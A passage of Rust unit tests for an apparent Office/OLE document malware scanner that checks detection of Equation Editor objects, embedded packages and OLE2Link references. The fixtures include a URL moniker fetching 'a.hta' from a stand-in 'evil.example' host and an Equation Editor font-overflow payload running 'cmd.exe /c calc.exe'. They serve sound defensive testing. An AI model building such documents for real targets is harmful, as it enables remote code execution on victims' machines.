        assert_eq!(kinds(&o), vec![IndicatorKind::EquationEditor]);
        assert!(!o.limits.is_empty());
    }

    #[test]
    fn truncated_file_is_padded_within_the_budget() {
        let file = build(|c| put(c, "/Equation Native", &[0x1C; 5000]));
        // Cut off the tail: the FAT now covers sectors past the end, which
        // the cfb crate refuses.
        let cut = &file[..file.len() - 5000];
        assert!(cfb::CompoundFile::open(Cursor::new(cut)).is_err());
        assert_eq!(kinds(&run(cut)), vec![IndicatorKind::EquationEditor]);
        // No budget: the padded copy is refused, and it says so.
        let none = Budget::new(
            std::time::Instant::now() + std::time::Duration::from_secs(9),
            0,
            10,
        );
        let o = open(cut, &none, Passwords::default());
        assert!(!o.limits.is_empty());
    }

    #[test]
    fn package_parsing_is_bounded() {
        let full = package_bytes("a.vbs", "C:\\a.vbs", b"WScript.Echo 1");
        for cut in 0..full.len() {
            // Any prefix parses or is refused without a panic.
            let _ = parse_package(&full[..cut]);
        }
        let p = parse_package(&full).unwrap();
        assert_eq!(p.file_name(), "a.vbs");
        let (s, e, declared) = p.data.unwrap();
        assert_eq!(&full[s..e], b"WScript.Echo 1");
        assert_eq!(declared, 14);
        // A declared size past the end is cut to what is there.
        let mut lying = full.clone();
        let at = lying.len() - 14 - 4;
        lying[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
        let p = parse_package(&lying).unwrap();
        let (s, e, declared) = p.data.unwrap();
        assert_eq!(e - s, 14);
        assert_eq!(declared, u64::from(u32::MAX));
    }

    #[test]
    fn ole2link_monikers_name_their_target() {
        let mut ole = vec![1, 0, 0, 2, 9, 0, 0, 0, 1, 0, 0, 0];
        ole.extend_from_slice(&clsid_bytes(URL_MONIKER).unwrap());
        let url: Vec<u8> = "hTTp://evil.example/a.hta\0"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        ole.extend_from_slice(&(url.len() as u32).to_le_bytes());
        ole.extend_from_slice(&url);
        ole.extend_from_slice(&clsid_bytes(FILE_MONIKER).unwrap());
        ole.extend_from_slice(&[0, 0, 18, 0, 0, 0]);
        ole.extend_from_slice(b"%TMP%\\x.sct\0\0\0\0\0\0\0");
        let file = build(|c| {
            c.set_storage_clsid("/", STD_OLE_LINK.parse().unwrap())
                .unwrap();
            put(c, "/\u{1}Ole", &ole);
        });
        let o = run(&file);
        let refs: Vec<_> = o
            .indicators
            .iter()
            .filter(|i| i.kind == IndicatorKind::ExternalReference)
            .map(|i| i.detail.as_str())
            .collect();
        assert_eq!(
            refs,
            vec![
                "OLE2Link oleObject: hTTp://evil.example/a.hta",
                "OLE2Link oleObject: %TMP%\\x.sct"
            ],
            "{o:?}"
        );
        // Cut anywhere, the moniker reader stays in bounds.
        for cut in 0..ole.len() {
            let _ = moniker_targets(&ole[..cut], 8);
        }
    }

    #[test]
    fn equation_native_font_overflow() {
        let mut honest = vec![0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4];
        honest.resize(28, 0);
        honest.extend_from_slice(&[
            3, 1, 1, 3, 10, 10, 1, 8, 0x81, 0, b'T', b'i', b'm', b'e', b's', 0, 0,
        ]);
        assert_eq!(overflowing_font_name(&honest), None);
        let mut exploit = honest[..28 + 5].to_vec();
        exploit.extend_from_slice(&[10, 1, 8, 0x5A, 0x5A]);
        exploit.extend_from_slice(b"cmd.exe /c calc.exe AAAAAAAAAAAAAAAAAAAAAAAA\x12\x0c\x43");
        exploit.push(0);
        assert_eq!(overflowing_font_name(&exploit), Some(47));
        for cut in 0..exploit.len() {
            let _ = overflowing_font_name(&exploit[..cut]);
        }
    }

    #[test]
    fn unicode_names_replace_the_ansi_ones() {
        let mut native = package_bytes("?.txt", "C:\\?.txt", b"hi");
        for name in ["C:\\Temp\\ü.txt", "ü.txt", "C:\\ü.txt"] {
            let units: Vec<u16> = name.encode_utf16().collect();
            native.extend_from_slice(&(units.len() as u32).to_le_bytes());
            native.extend(units.iter().flat_map(|u| u.to_le_bytes()));
        }
        let p = parse_package(&native).unwrap();
        assert_eq!(p.file_name(), "ü.txt");
        assert_eq!(p.label, "ü.txt");
        for cut in 0..native.len() {
            let _ = parse_package(&native[..cut]);
        }
    }

    #[test]
    fn equation_prog_ids() {
        assert!(is_equation_prog_id("Equation.3"));
        assert!(is_equation_prog_id("EQUATION.3\0\0xx"));
        assert!(!is_equation_prog_id("Equation.DSMT4"));
        assert!(!is_equation_prog_id("Equ"));
        assert!(!is_equation_prog_id("Word.Document.8"));
    }
}
